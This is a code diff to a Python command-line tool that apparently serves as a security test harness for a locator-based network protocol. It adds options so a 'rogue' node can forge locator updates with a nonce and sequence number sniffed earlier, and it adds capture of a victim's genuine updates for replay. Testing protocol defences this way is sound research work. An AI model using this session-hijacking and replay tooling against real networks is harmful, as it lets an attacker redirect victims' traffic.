@@ -74,16 +74,25 @@ def forged_update(kind: str, victim: int, peer: int, peer_loc: int, to: int, see
               help="Locators whose groups the rogue listens on to sniff the session.")
 @click.option("--sniff-time", default=5.0, show_default=True, help="Seconds to watch the session.")
 @click.option("--copies", default=3, show_default=True, help="Forged packets to send.")
+@click.option("--nonce", "nonce_hex", default=None, help="A nonce sniffed earlier (hex), e.g. by capture-updates.")
+@click.option("--seq", type=int, default=None, help="The victim's last sequence number seen earlier.")
+@click.option("--peer-loc", default=None, help="The peer's locator, when the session is quiet (discovery tells it).")
 @click.pass_obj
-def forge_update(obj, victim, peer, to, kind, listen, sniff_time, copies):
+def forge_update(obj, victim, peer, to, kind, listen, sniff_time, copies, nonce_hex, seq, peer_loc):
     """Tell PEER that VICTIM moved to --to, forged in the way --kind says."""
     try:
         to_loc, listen_locs = parse64(to), parse_locator_set(listen)
-    except AddressError as exc:
+        earlier = bytes.fromhex(nonce_hex) if nonce_hex else None
+        given_loc = parse64(peer_loc) if peer_loc else None
+    except (AddressError, ValueError) as exc:
         raise click.BadParameter(str(exc)) from None
     rogue = obj.rogue()
     rogue.listen(listen_locs)
     seen = _observe(rogue, victim, peer, sniff_time)
+    seen["nonce"] = seen["nonce"] or earlier
+    seen["peer_loc"] = seen["peer_loc"] or given_loc
+    if seq is not None and seen["seq"] is None:
+        seen["seq"] = seq
     if seen["peer_loc"] is None:
         raise click.ClickException(f"no packet from {format64(victim)} to {format64(peer)} in {sniff_time}s")
     datagram = forged_update(kind, victim, peer, seen["peer_loc"], to_loc, seen)
@@ -104,16 +113,19 @@ def capture_updates(obj, victim, peer, out, listen, seconds, count):
     """Save VICTIM's genuine locator updates to PEER (one hex datagram per line, with its locator)."""
     rogue = obj.rogue()
     rogue.listen(parse_locator_set(listen))
-    got = []
+    click.echo(json.dumps({"ready": True}), err=True)  # listening: a script may start the victim's move
+    got, nonce, seq = [], None, None
     keep = _session_filter(victim, peer)
-    for loc, datagram, packet, _opts in rogue.sniff(seconds, keep):
+    for loc, datagram, packet, opts in rogue.sniff(seconds, keep):
         if packet.next_header == NH_LOCATOR_UPDATE and packet.payload[:1] == bytes((TYPE_UPDATE,)):
             got.append(f"{format64(packet.dst_loc)} {datagram.hex()}")
+            if opts:
+                nonce, seq = opts.get("nonce"), opts.get("seq")
             if len(got) >= count:
                 break
     with open(out, "w") as fh:
         fh.write("".join(line + "\n" for line in got))
-    click.echo(json.dumps({"captured": len(got)}))
+    click.echo(json.dumps({"captured": len(got), "nonce": nonce.hex() if nonce else None, "seq": seq}))
     if not got:
         raise click.ClickException("no locator update captured")
 
